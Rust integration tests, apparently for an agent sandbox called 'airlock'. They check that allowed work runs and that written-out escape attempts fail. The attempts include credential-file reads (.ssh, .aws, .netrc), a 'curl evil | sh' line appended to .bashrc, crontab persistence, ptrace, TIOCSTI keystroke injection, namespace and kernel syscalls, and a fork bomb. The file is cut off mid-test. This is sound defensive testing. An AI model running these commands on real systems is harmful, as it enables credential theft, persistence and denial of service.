//! The sandbox engine, end to end through the real `airlock run`: allowed
//! work succeeds, and every escape attempt fails — checked on the host side
//! (the secret was not read, the file outside was not written, the host
//! process was not touched). Runs as root and, in `build-aux/test.sh`, again
//! as an unprivileged user.

mod common;

use std::io::{Read, Write};
use std::os::unix::net::UnixListener;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;

const SECRET: &str = "AIRLOCK-TEST-SECRET-7f3a9";

fn plant(path: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, SECRET).unwrap();
    // Readable by anyone: only the sandbox may keep the agent from it.
    chmod(path, 0o644);
    chmod(path.parent().unwrap(), 0o755);
}

fn assert_no_secret(o: &std::process::Output) {
    assert!(!text(o).contains(SECRET), "the secret leaked:\n{}", text(o));
}

// ---------------------------------------------------------------- allowed

#[test]
fn shell_python_and_children_work() {
    let w = World::new();
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        "echo hi; python3 -c 'print(6*7)'; (sleep 0.1; echo child) & wait; seq 1 20000 | sort -n | uniq | wc -l",
    );
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(
        t.contains("hi") && t.contains("42") && t.contains("child") && t.contains("20000"),
        "{t}"
    );
}

/// A test suite that starts a local server and talks to it (Go's
/// httptest, supertest, a dev database) works inside: the sandbox's
/// loopback is its own. A Landlock port rule refused these connections
/// with EACCES; the network namespace is what keeps them inside. The host's
/// own loopback stays out of reach, with and without the network path.
#[test]
fn a_local_server_inside_the_sandbox_can_be_reached() {
    let w = World::new();
    let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let host_port = host.local_addr().unwrap().port();
    host.set_nonblocking(true).unwrap();
    let script = format!(
        "python3 -c 'import socket, threading, urllib.request, http.server
srv = http.server.HTTPServer((\"127.0.0.1\", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=srv.serve_forever, daemon=True).start()
r = urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open(\"http://127.0.0.1:%d/\" % srv.server_port)
print(\"local server status\", r.status)
s = socket.socket(); s.settimeout(2)
try:
    s.connect((\"127.0.0.1\", {host_port})); print(\"reached the host\")
except OSError as e:
    print(\"host loopback:\", e.errno)'"
    );
    for net in [
        &[][..],
        &["--net", "allow", "--allow-host", "example.invalid"][..],
    ] {
        let o = w.run(net, &script);
        let t = text(&o);
        assert!(t.contains("local server status 200"), "{net:?}: {t}");
        assert!(!t.contains("reached the host"), "{net:?}: {t}");
        // Nothing arrived at the host's listener.
        assert!(
            host.accept().is_err(),
            "{net:?}: the host listener was reached"
        );
    }
}

#[test]
fn git_commit_in_rw_grant_tmp_and_ro_grant() {
    let w = World::new();
    let docs = w.path().join("docs");
    std::fs::create_dir(&docs).unwrap();
    chmod(&docs, 0o755);
    std::fs::write(docs.join("readme.txt"), "read me").unwrap();
    chmod(&docs.join("readme.txt"), 0o644);
    let o = w.run(
        &[
            "--grant",
            &format!("{}:rw", w.project.display()),
            "--grant",
            &docs.display().to_string(),
        ],
        &format!(
            "set -e; git init -q . && echo x > f && git add f && git -c user.email=a@b -c user.name=a commit -qm m && git log --oneline | wc -l; \
             echo tmp > /tmp/t && cat /tmp/t; cat {}/readme.txt; echo no > {}/new 2>/dev/null && echo WROTE || echo refused",
            docs.display(),
            docs.display()
        ),
    );
    let t = text(&o);
    assert!(
        t.contains("tmp") && t.contains("read me") && t.contains("refused"),
        "{t}"
    );
    assert!(!docs.join("new").exists());
    // The real project folder saw nothing: the repository is in the upper layer.
    assert!(!w.project.join(".git").exists());
    assert!(std::fs::read_dir(&w.project).unwrap().next().is_none());
}

#[test]
fn real_folder_is_byte_for_byte_unchanged() {
    let w = World::new();
    for (name, body) in [
        ("a.txt", "alpha\n"),
        ("b.txt", "beta\n"),
        ("sub/c.txt", "gamma\n"),
    ] {
        let p = w.project.join(name);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        chmod(p.parent().unwrap(), 0o777);
        std::fs::write(&p, body).unwrap();
        chmod(&p, 0o666);
    }
    let before = tree(&w.project);
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        "set -e; echo rewritten > a.txt; rm b.txt; rm -r sub; mkdir new; echo n > new/n.txt; ln -s /etc/passwd link; chmod 600 a.txt || true",
    );
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(before, tree(&w.project), "the real folder changed");
    assert!(
        text(&o).contains(" files changed, waiting for review"),
        "{}",
        text(&o)
    );
    let task = w.tasks().pop().expect("a task folder");
    assert!(task.join("upper/0/new/n.txt").exists());
    assert!(task.join("exit.json").exists());
}

fn tree(root: &Path) -> Vec<(String, Vec<u8>, u32)> {
    use std::os::unix::fs::MetadataExt;
    let mut v = Vec::new();
    fn walk(root: &Path, p: &Path, v: &mut Vec<(String, Vec<u8>, u32)>) {
        let mut entries: Vec<_> = std::fs::read_dir(p).unwrap().flatten().collect();
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let m = e.path().symlink_metadata().unwrap();
            let rel = e.path().strip_prefix(root).unwrap().display().to_string();
            if m.is_dir() {
                v.push((rel, vec![], m.mode()));
                walk(root, &e.path(), v);
            } else {
                v.push((rel, std::fs::read(e.path()).unwrap_or_default(), m.mode()));
            }
        }
    }
    walk(root, root, &mut v);
    v
}

#[test]
fn exit_status_and_signals_are_passed_on() {
    let w = World::new();
    assert_eq!(w.run(&[], "exit 7").status.code(), Some(7));
    assert_eq!(w.run(&[], "kill -TERM $$").status.code(), Some(128 + 15));
    let o = w
        .cmd(&["run", "--", "definitely-not-a-command"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(127), "{}", text(&o));
}

#[test]
fn json_events_name_the_task() {
    let w = World::new();
    let o = w.run(&["--json-events", "-"], "true");
    assert!(o.status.success());
    let out = String::from_utf8_lossy(&o.stdout);
    let events: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let types: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    for t in ["started", "enforcement", "exited"] {
        assert!(types.contains(&t), "{types:?}");
    }
    let task = events[0]["task"].as_str().unwrap();
    assert!(events.iter().all(|e| e["task"] == task && e["v"] == 1));
    let enf = events.iter().find(|e| e["type"] == "enforcement").unwrap();
    let layers = enf["layers"].as_array().unwrap();
    for what in ["landlock", "seccomp", "capabilities", "pids", "memory"] {
        assert!(
            layers.iter().any(|l| l["what"] == what),
            "{what} missing in {layers:?}"
        );
    }
}

#[test]
fn runs_as_unprivileged_uid_with_nothing_enforced_missing() {
    let w = World::new();
    let o = w.run(
        &[],
        "id -u; grep -E '^(CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
    );
    let t = text(&o);
    let uid: u32 = t.lines().next().unwrap().trim().parse().unwrap();
    if is_root() {
        assert_eq!(
            uid, 65534,
            "as root the task must run as an unprivileged uid"
        );
    } else {
        assert_eq!(uid, nix::unistd::getuid().as_raw());
    }
    for l in [
        "CapEff:\t0000000000000000",
        "CapBnd:\t0000000000000000",
        "CapAmb:\t0000000000000000",
        "NoNewPrivs:\t1",
        "Seccomp:\t2",
    ] {
        assert!(t.contains(l), "{l} missing:\n{t}");
    }
}

#[test]
fn environment_is_scrubbed() {
    let w = World::new();
    let mut c = w.cmd(&["run", "--env", "MINE=yes", "--", "env"]);
    c.env("DISPLAY", ":42")
        .env("WAYLAND_DISPLAY", "wayland-0")
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/run/user/1/bus")
        .env("SSH_AUTH_SOCK", "/run/user/1/ssh")
        .env("XDG_RUNTIME_DIR", "/run/user/1")
        .env("GITHUB_TOKEN", SECRET);
    let o = output_within(c, Duration::from_secs(60));
    let t = text(&o);
    assert!(t.contains("MINE=yes"), "{t}");
    for v in [
        "DISPLAY",
        "WAYLAND_DISPLAY",
        "DBUS_SESSION_BUS_ADDRESS",
        "SSH_AUTH_SOCK",
        "XDG_RUNTIME_DIR",
    ] {
        assert!(!t.contains(&format!("{v}=")), "{v} leaked:\n{t}");
    }
    assert_no_secret(&o);
}

// ---------------------------------------------------------------- escapes

#[test]
fn escape_read_secret_outside_grants() {
    let w = World::new();
    let secret = w.outside.join("secret.txt");
    plant(&secret);
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        &format!(
            "cat {p}; cat {p}; ls -la {d}; cd /; find / -name secret.txt 2>/dev/null",
            p = secret.display(),
            d = w.outside.display()
        ),
    );
    assert_no_secret(&o);
}

#[test]
fn escape_read_always_denied_folder_inside_a_grant() {
    let w = World::new();
    plant(&w.home.join(".ssh/id_rsa"));
    plant(&w.home.join(".gnupg/private.key"));
    plant(&w.home.join(".aws/credentials"));
    plant(&w.home.join(".netrc"));
    plant(&w.home.join("private/notes.txt"));
    let o = w.run(
        &["--grant", &w.home.display().to_string(), "--deny", &w.home.join("private").display().to_string()],
        &format!(
            "cd {h}; cat .ssh/id_rsa .gnupg/private.key .aws/credentials .netrc private/notes.txt; ls -la .ssh; grep -r AIRLOCK . 2>/dev/null",
            h = w.home.display()
        ),
    );
    assert_no_secret(&o);
    // The grant itself works.
    let o = w.run(
        &["--grant", &w.home.display().to_string()],
        &format!("ls {}/project && echo listed", w.home.display()),
    );
    assert!(text(&o).contains("listed"), "{}", text(&o));
}

#[test]
fn escape_symlink_to_denied_folder() {
    let w = World::new();
    plant(&w.outside.join("keys/id_ed25519"));
    // ~/.ssh is a symlink to a folder that *is* inside another grant.
    std::os::unix::fs::symlink(w.outside.join("keys"), w.home.join(".ssh")).unwrap();
    let o = w.run(
        &[
            "--grant",
            &w.home.display().to_string(),
            "--grant",
            &w.outside.display().to_string(),
        ],
        &format!(
            "cat ~/.ssh/id_ed25519; cat {}/keys/id_ed25519",
            w.outside.display()
        ),
    );
    assert_no_secret(&o);
}

#[test]
fn escape_write_outside_grants_and_into_ro_grant() {
    let w = World::new();
    let docs = w.path().join("docs");
    std::fs::create_dir(&docs).unwrap();
    chmod(&docs, 0o777);
    let target = w.outside.join("planted");
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display()), "--grant", &docs.display().to_string()],
        &format!(
            "echo x > {t}; mkdir -p {o}; echo x > {o}/x; echo x > {d}/x; touch {d}/y; cp /bin/sh {d}/; echo done",
            t = target.display(),
            o = w.outside.display(),
            d = docs.display()
        ),
    );
    assert!(text(&o).contains("done"));
    assert!(!target.exists() && !w.outside.join("x").exists());
    assert!(
        std::fs::read_dir(&docs).unwrap().next().is_none(),
        "the read-only grant was written"
    );
}

#[test]
fn escape_persistence_bashrc_autostart_crontab() {
    let w = World::new();
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        "echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/evil.desktop; \
         echo '* * * * * touch /tmp/pwned' | crontab - 2>&1; echo '* * * * * x' > /var/spool/cron/crontabs/$(id -un) 2>&1; echo done",
    );
    assert!(text(&o).contains("done"));
    assert!(!w.home.join(".bashrc").exists());
    assert!(!w.home.join(".config/autostart/evil.desktop").exists());
    let user = nix::unistd::User::from_uid(nix::unistd::getuid())
        .unwrap()
        .unwrap()
        .name;
    assert!(!Path::new("/var/spool/cron/crontabs").join(&user).exists() || is_root());
    assert!(!Path::new("/var/spool/cron/crontabs/airlock").exists());
}

fn host_sleeper(marker: &str) -> std::process::Child {
    Command::new("bash")
        .args(["-c", &format!("exec -a {marker} sleep 300")])
        .stdin(Stdio::null())
        .spawn()
        .unwrap()
}

fn tracer_pid(pid: u32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find(|l| l.starts_with("TracerPid:"))
        .unwrap()
        .to_string()
}

#[test]
fn escape_ptrace_and_kill_host_processes() {
    let w = World::new();
    let mut host = host_sleeper("airlock-victim-ptrace");
    let pid = host.id();
    let o = w.run(
        &[],
        &format!(
            "{}; {}; kill -9 -1; kill -9 {pid}; echo done",
            py_syscall(
                libc::SYS_ptrace,
                &[16 /* PTRACE_ATTACH */, pid as u64, 0, 0]
            ),
            py_syscall(libc::SYS_ptrace, &[16, 1, 0, 0]),
        ),
    );
    let t = text(&o);
    assert!(t.contains("rc=-1 errno=1"), "{t}");
    assert_eq!(tracer_pid(pid), "TracerPid:\t0");
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        host.try_wait().unwrap().is_none(),
        "the host process was killed"
    );
    host.kill().unwrap();
    let _ = host.wait();
}

#[test]
fn escape_reading_host_processes_via_proc() {
    let w = World::new();
    let mut host = Command::new("bash")
        .args(["-c", &format!("exec -a {SECRET} sleep 300")])
        .env("LEAKY", SECRET)
        .spawn()
        .unwrap();
    let o = w.run(&[], "cat /proc/*/cmdline /proc/*/environ 2>/dev/null | tr '\\0' ' '; echo; ls /proc | grep -E '^[0-9]+$' | wc -l");
    assert_no_secret(&o);
    let count: u32 = String::from_utf8_lossy(&o.stdout)
        .trim()
        .lines()
        .last()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(count < 10, "the sandbox sees {count} processes");
    host.kill().unwrap();
    let _ = host.wait();
}

#[test]
fn escape_mount_and_unmount_to_reveal_hidden_paths() {
    let w = World::new();
    plant(&w.home.join(".ssh/id_rsa"));
    let o = w.run(
        &["--grant", &w.home.display().to_string()],
        &format!(
            "umount ~/.ssh 2>&1; umount -l ~/.ssh 2>&1; {}; {}; mount -t tmpfs none /tmp 2>&1; cat ~/.ssh/id_rsa",
            py_syscall(libc::SYS_umount2, &[0, 2]),
            py_syscall(libc::SYS_mount, &[0, 0, 0, 0, 0])
        ),
    );
    assert_no_secret(&o);
    assert!(
        text(&o).matches("rc=-1 errno=1").count() >= 2,
        "{}",
        text(&o)
    );
}

#[test]
fn escape_new_namespaces_and_setns() {
    let w = World::new();
    let o = w.run(
        &[],
        &format!(
            "unshare -Ur id 2>&1; unshare -m true 2>&1; {}; {}; {}; {}; {}",
            py_syscall(libc::SYS_unshare, &[libc::CLONE_NEWUSER as u64]),
            py_syscall(
                libc::SYS_unshare,
                &[libc::CLONE_NEWNET as u64 | 0xffff_ffff_0000_0000]
            ),
            py_syscall(libc::SYS_setns, &[0, 0]),
            // clone with CLONE_NEWUSER|SIGCHLD; clone3 must answer ENOSYS.
            py_syscall(
                libc::SYS_clone,
                &[libc::CLONE_NEWUSER as u64 | 17, 0, 0, 0, 0]
            ),
            py_syscall(435, &[0, 0]),
        ),
    );
    let t = text(&o);
    assert!(!t.contains("uid=0"), "{t}");
    assert!(t.matches("rc=-1 errno=1\n").count() >= 4, "{t}");
    assert!(
        t.contains("rc=-1 errno=38"),
        "clone3 must answer ENOSYS: {t}"
    );
}

#[test]
fn escape_kernel_attack_surface_syscalls() {
    let w = World::new();
    let calls: Vec<(&str, i64, Vec<u64>)> = vec![
        ("io_uring_setup", 425, vec![8, 0]),
        ("bpf", libc::SYS_bpf, vec![0, 0, 0]),
        (
            "perf_event_open",
            libc::SYS_perf_event_open,
            vec![0, 0, u64::MAX, u64::MAX, 0],
        ),
        ("keyctl", libc::SYS_keyctl, vec![0, 0]),
        ("add_key", libc::SYS_add_key, vec![0, 0, 0, 0, 0]),
        ("userfaultfd", libc::SYS_userfaultfd, vec![0]),
        (
            "open_by_handle_at",
            libc::SYS_open_by_handle_at,
            vec![0, 0, 0],
        ),
        (
            "name_to_handle_at",
            libc::SYS_name_to_handle_at,
            vec![0, 0, 0, 0, 0],
        ),
        ("kexec_load", libc::SYS_kexec_load, vec![0, 0, 0, 0]),
        ("init_module", libc::SYS_init_module, vec![0, 0, 0]),
        ("personality", libc::SYS_personality, vec![0x0040000]),
        ("syslog", libc::SYS_syslog, vec![3, 0, 0]),
        ("acct", libc::SYS_acct, vec![0]),
        ("socket AF_PACKET", libc::SYS_socket, vec![17, 3, 0]),
        ("socket AF_VSOCK", libc::SYS_socket, vec![40, 1, 0]),
        ("socket raw", libc::SYS_socket, vec![2, 3, 1]),
        ("seccomp new listener", libc::SYS_seccomp, vec![1, 8, 0]),
    ];
    let script: Vec<String> = calls
        .iter()
        .map(|(name, nr, args)| format!("echo -n '{name}: '; {}", py_syscall(*nr, args)))
        .collect();
    let o = w.run(&[], &script.join("; "));
    let t = text(&o);
    for (name, _, _) in &calls {
        let line = t
            .lines()
            .find(|l| l.starts_with(&format!("{name}: ")))
            .unwrap_or_else(|| panic!("{name}: no output\n{t}"));
        assert!(
            line.ends_with("rc=-1 errno=1"),
            "{name} was not refused: {line}"
        );
    }
    // Ordinary sockets still work.
    let o = w.run(&[], &py_syscall(libc::SYS_socket, &[2, 1, 0]));
    assert!(!text(&o).contains("rc=-1"), "{}", text(&o));
}

#[cfg(target_arch = "x86_64")]
#[test]
fn escape_x32_and_i386_abi() {
    let w = World::new();
    // getpid through the x32 ABI (bit 30 set).
    let o = w.run(&[], &py_syscall(0x4000_0000 + 39, &[]));
    assert!(text(&o).contains("rc=-1 errno=1"), "{}", text(&o));
}

#[test]
fn escape_tiocsti_into_the_users_terminal() {
    use std::os::fd::{AsRawFd, FromRawFd};
    let w = World::new();
    let pty = nix::pty::openpty(None, None).unwrap();
    let slave = pty.slave.as_raw_fd();
    let script = "python3 -c 'import fcntl, termios, sys
for req in (termios.TIOCSTI, 0xffffffff00005412, 0x541C):
    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, req, b\"X\"); print(\"INJECTED\", file=sys.stderr)
        except OSError as e:
            pass
try:
    fd = open(\"/dev/tty\", \"rb\").fileno(); fcntl.ioctl(fd, termios.TIOCSTI, b\"X\"); print(\"INJECTED\", file=sys.stderr)
except OSError:
    pass
print(\"tried\", file=sys.stderr)'";
    let mut c = w.cmd(&["run", "--", "sh", "-c", script]);
    // SAFETY: duplicating a descriptor we own for the child's stdio.
    let (i, o2) = unsafe { (libc::dup(slave), libc::dup(slave)) };
    c.stdin(unsafe { Stdio::from_raw_fd(i) })
        .stdout(unsafe { Stdio::from_raw_fd(o2) });
    let out = output_within(c, Duration::from_secs(60));
    let t = text(&out);
    assert!(t.contains("tried") && !t.contains("INJECTED"), "{t}");
    // Nothing waits in the terminal's input queue on the host side.
    let mut pending: libc::c_int = 0;
    // SAFETY: FIONREAD into an int.
    unsafe { libc::ioctl(slave, libc::FIONREAD, &mut pending) };
    assert_eq!(pending, 0, "keystrokes were pushed into the terminal");
    let mut buf = [0u8; 64];
    let _ = nix::fcntl::fcntl(
        pty.master.as_raw_fd(),
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::O_NONBLOCK),
    );
    let mut master = std::fs::File::from(pty.master);
    let n = master.read(&mut buf).unwrap_or(0);
    assert!(!String::from_utf8_lossy(&buf[..n]).contains('X'));
}

#[test]
fn escape_host_unix_sockets_and_tcp() {
    let w = World::new();
    // A filesystem socket outside the grants.
    let path = w.outside.join("agent.sock");
    let fs_listener = UnixListener::bind(&path).unwrap();
    fs_listener.set_nonblocking(true).unwrap();
    chmod(&path, 0o777);
    // An abstract socket.
    let abs_name = format!("airlock-test-{}", std::process::id());
    let abs = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(abs_name.as_bytes()).unwrap();
        UnixListener::bind_addr(&addr).unwrap()
    };
    abs.set_nonblocking(true).unwrap();
    // TCP on the host's loopback.
    let tcp = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let port = tcp.local_addr().unwrap().port();
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        &format!(
            "python3 -c '
import socket
for fam, addr in ((socket.AF_UNIX, \"{p}\"), (socket.AF_UNIX, \"\\0{a}\"), (socket.AF_INET, (\"127.0.0.1\", {port})), (socket.AF_INET6, (\"::1\", {port}))):
    try:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(addr); s.sendall(b\"hello\"); print(\"CONNECTED\", addr)
    except OSError as e:
        print(\"refused\", e)
'",
            p = path.display(),
            a = abs_name
        ),
    );
    let t = text(&o);
    assert!(!t.contains("CONNECTED"), "{t}");
    assert_eq!(
        t.lines().filter(|l| l.starts_with("refused")).count(),
        4,
        "{t}"
    );
    assert!(
        fs_listener.accept().is_err(),
        "the host socket accepted a connection"
    );
    assert!(
        abs.accept().is_err(),
        "the abstract socket accepted a connection"
    );
    assert!(
        tcp.accept().is_err(),
        "the host TCP listener accepted a connection"
    );
}

#[test]
fn escape_setuid_binary_gives_nothing() {
    let w = World::new();
    let o = w.run(
        &["--grant", &format!("{}:rw", w.project.display())],
        "cp /usr/bin/id ./myid && chmod 4755 ./myid && ./myid -u; cp /usr/bin/id /tmp/id && chmod 6755 /tmp/id && /tmp/id -u; \
         su -c 'id -u' root </dev/null 2>&1; mount -t tmpfs x /tmp 2>&1; echo end",
    );
    let t = text(&o);
    let me = if is_root() {
        65534
    } else {
        nix::unistd::getuid().as_raw()
    };
    for line in t
        .lines()
        .filter(|l| l.chars().all(|c| c.is_ascii_digit()) && !l.is_empty())
    {
        assert_eq!(line.parse::<u32>().unwrap(), me, "{t}");
    }
    assert!(!t.lines().any(|l| l.trim() == "0"), "became root:\n{t}");
}

#[test]
fn escape_inherited_file_descriptor() {
    let w = World::new();
    let secret = w.outside.join("fd-secret");
    plant(&secret);
    // The caller leaks fd 7 open on a secret; the sandbox must close it.
    let bin = airlock_bin();
    let o = output_within(
        {
            let mut c = w.cmd(&[]);
            c.arg("--version");
            let mut sh = Command::new("sh");
            sh.args([
                "-c",
                &format!(
                    "exec 7<{}; exec {} run -- sh -c 'cat <&7; cat /proc/self/fd/7; ls -l /proc/self/fd'",
                    secret.display(),
                    bin.display()
                ),
            ]);
            for (k, v) in c.get_envs() {
                if let Some(v) = v {
                    sh.env(k, v);
                }
            }
            sh.current_dir(w.path());
            sh
        },
        Duration::from_secs(60),
    );
    assert_no_secret(&o);
}

#[test]
fn escape_proc_and_sys_writes() {
    let w = World::new();
    let o = w.run(
        &[],
        "echo b > /proc/sysrq-trigger 2>&1; echo evil > /proc/sys/kernel/hostname 2>&1; cat /proc/kcore 2>&1 | head -c 10 | wc -c; \
         ls /sys 2>&1; cat /proc/keys 2>&1 | wc -c; echo end",
    );
    let t = text(&o);
    assert!(t.contains("end"), "{t}");
    let host = nix::unistd::gethostname().unwrap();
    assert_ne!(host.to_string_lossy(), "evil");
}

#[test]
fn escape_task_state_is_invisible_inside() {
    let w = World::new();
    plant(
        &w.state()
            .join("airlock/tasks/other-task/upper/0/pending.txt"),
    );
    let o = w.run(
        &["--grant", &w.path().display().to_string()],
        &format!("ls -la {s}/airlock 2>&1; cat {s}/airlock/tasks/*/upper/0/pending.txt 2>&1; find {s} 2>&1 | head", s = w.state().display()),
    );
    assert_no_secret(&o);
}

#[test]
fn escape_daemon_does_not_outlive_the_task() {
    let w = World::new();
    let marker = format!("airlock-daemon-{}", std::process::id());
    let o = w.run(
        &[],
        &format!("(setsid bash -c 'exec -a {marker} sleep 600' </dev/null >/dev/null 2>&1 &) ; sleep 0.2; pgrep -f {marker} >/dev/null && echo started"),
    );
    assert!(text(&o).contains("started"));
    std::thread::sleep(Duration::from_millis(300));
    let left = Command::new("pgrep")
        .args(["-f", &marker])
        .output()
        .unwrap();
    assert!(
        left.stdout.is_empty(),
        "a daemon outlived the task: {}",
        String::from_utf8_lossy(&left.stdout)
    );
}

#[test]
fn escape_fork_bomb_is_stopped_by_the_pids_limit() {
    let w = World::new();
    let o = w.run(
        &["--pids", "64", "--timeout", "30"],
        "bomb() { bomb | bomb & }; bomb; sleep 2; echo survived",
    );
    // Bounded in time (output_within asserts it) and every process is gone.
    let _ = o;
    std::thread::sleep(Duration::from_millis(300));
    let t = w.tasks();
    assert_eq!(t.len(), 1);
}

#[test]
fn escape_memory_balloon_is_stopped() {
    let w = World::new();
    let o = w.run(
        &["--memory", "256M"],
        "python3 -c 'b = bytearray(1 << 30); print(\"ALLOCATED\", len(b))'",
    );
    let t = text(&o);
    assert!(!t.contains("ALLOCATED"), "{t}");
    assert!(!o.status.success());
}

#[test]
fn escape_disk_filling_is_stopped() {
    let w = World::new();
    let o = w.run(
        &[
            "--grant",
            &format!("{}:rw", w.project.display()),
            "--max-upper",
            "8M",
        ],
        "dd if=/dev/zero of=big bs=1M count=100 2>&1; echo dd-exit=$?",
    );
    let task = w.tasks().pop().unwrap();
    let size = std::fs::metadata(task.join("upper/0/big"))
        .map(|m| m.len())
        .unwrap_or(0);
    assert!(size <= 8 << 20, "the task wrote {size} bytes");
    assert!(
        !o.status.success() || text(&o).contains("dd-exit=1") || text(&o).contains("dd-exit=153"),
        "{}",
        text(&o)
    );
    let o = w.run(
        &["--tmp-size", "4M"],
        "dd if=/dev/zero of=/tmp/big bs=1M count=50 2>&1; echo dd-exit=$?",
    );
    assert!(text(&o).contains("No space left"), "{}", text(&o));
}

#[test]
fn timeout_stops_the_task_with_an_event() {
    let w = World::new();
    let o = w.run(&["--timeout", "1", "--json-events", "-"], "sleep 30");
    let t = text(&o);
    assert!(
        t.contains("\"type\":\"limit_hit\"") && t.contains("timeout"),
        "{t}"
    );
    assert_eq!(o.status.code(), Some(137));
}

#[test]
fn bad_input_gets_a_clear_error() {
    let w = World::new();
    let o = w
        .cmd(&["run", "--grant", "/nonexistent/folder:rw", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    assert!(text(&o).contains("/nonexistent/folder"), "{}", text(&o));
    let o = w
        .cmd(&["run", "--grant", "/usr:rw", "--", "true"])
        .output()
        .unwrap();
    assert!(text(&o).contains("/usr"), "{}", text(&o));
    let o = w
        .cmd(&["run", "--memory", "lots", "--", "true"])
        .output()
        .unwrap();
    assert!(text(&o).contains("lots"), "{}", text(&o));
    // Limits no task could run under are refused before a task exists,
    // not left to crash the agent or fail the sandbox's setup.
    let before = w.tasks().len();
    for (flag, value) in [
        ("--memory", "1K"),
        ("--pids", "0"),
        ("--nofile", "3"),
        ("--nofile", "99999999999"),
    ] {
        let o = w.cmd(&["run", flag, value, "--", "true"]).output().unwrap();
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        assert!(
            text(&o).contains(&format!("{flag}: {value}"))
                || text(&o).contains(&format!("{flag}: 1 KiB")),
            "{}",
            text(&o)
        );
    }
    assert_eq!(w.tasks().len(), before);
    let prof = w.path().join("p.json");
    std::fs::write(&prof, "{\n \"defaultAction\": \"SCMP_ACT_ALLOW\",\n \"syscalls\": [\n  {\"names\": [\"ptrace\"], \"action\": \"SCMP_ACT_NOTIFY\"}\n ]\n}").unwrap();
    let o = w
        .cmd(&[
            "run",
            "--seccomp-profile",
            prof.to_str().unwrap(),
            "--",
            "true",
        ])
        .output()
        .unwrap();
    assert!(text(&o).contains("p.json:4"), "{}", text(&o));
}

#[test]
fn oci_profile_is_enforced() {
    let w = World::new();
    let prof = w.path().join("deny-mkdir.json");
    let mut f = std::fs::File::create(&prof).unwrap();
    write!(f, r#"{{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 13}}]}}"#).unwrap();
    chmod(&prof, 0o644);
    let o = w.run(
        &["--seccomp-profile", prof.to_str().unwrap()],
        "mkdir /tmp/x 2>&1; echo end",
    );
    assert!(text(&o).contains("Permission denied"), "{}", text(&o));
}

#[test]
fn tty_gives_the_task_its_own_terminal() {
    let w = World::new();
    let c = w.cmd(&[
        "run",
        "--tty",
        "--",
        "sh",
        "-c",
        "test -t 0 && test -t 1 && echo TASK-HAS-TTY; read -r l; echo got:$l; ls -l /proc/self/fd/0",
    ]);
    let (mut child, mut master) = common::spawn_on_pty(c, false);
    std::thread::sleep(Duration::from_millis(500));
    master.write_all(b"hello\r").unwrap();
    let mut out = Vec::new();
    let start = std::time::Instant::now();
    let mut buf = [0u8; 4096];
    while start.elapsed() < Duration::from_secs(30) {
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
        if String::from_utf8_lossy(&out).contains("waiting for review") {
            break;
        }
    }
    let status = child.wait().unwrap();
    let t = String::from_utf8_lossy(&out);
    assert!(status.success(), "{t}");
    assert!(t.contains("TASK-HAS-TTY") && t.contains("got:hello"), "{t}");
}

/// With `--tty` the helper puts the user's terminal into raw mode. A task
/// stopped by a limit ends with the helper killed, before it can put the
/// modes back: `airlock run` must, or the user's shell is left without
/// echo, line editing and Ctrl+C. Decided on the terminal's own modes.
#[test]
fn a_tty_task_stopped_by_its_timeout_gives_the_terminal_back_as_it_was() {
    use nix::sys::termios::{tcgetattr, LocalFlags};
    let w = World::new();
    let c = w.cmd(&[
        "run",
        "--local",
        "--tty",
        "--timeout",
        "2",
        "--",
        "sh",
        "-c",
        "echo STARTED; sleep 60",
    ]);
    let (mut child, mut master) = common::spawn_on_pty(c, true);
    let before = tcgetattr(&master).unwrap().local_flags;
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    let start = std::time::Instant::now();
    let mut raw_seen = false;
    while start.elapsed() < Duration::from_secs(40) {
        if !raw_seen && String::from_utf8_lossy(&out).contains("STARTED") {
            raw_seen = !tcgetattr(&master)
                .unwrap()
                .local_flags
                .contains(LocalFlags::ICANON);
        }
        match master.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => out.extend_from_slice(&buf[..n]),
        }
        if child.try_wait().unwrap().is_some() {
            break;
        }
    }
    let _ = child.wait();
    let t = String::from_utf8_lossy(&out);
    assert!(raw_seen, "the task never had the terminal raw: {t}");
    assert!(
        t.contains("stopped"),
        "the timeout did not stop the task: {t}"
    );
    let after = tcgetattr(&master).unwrap().local_flags;
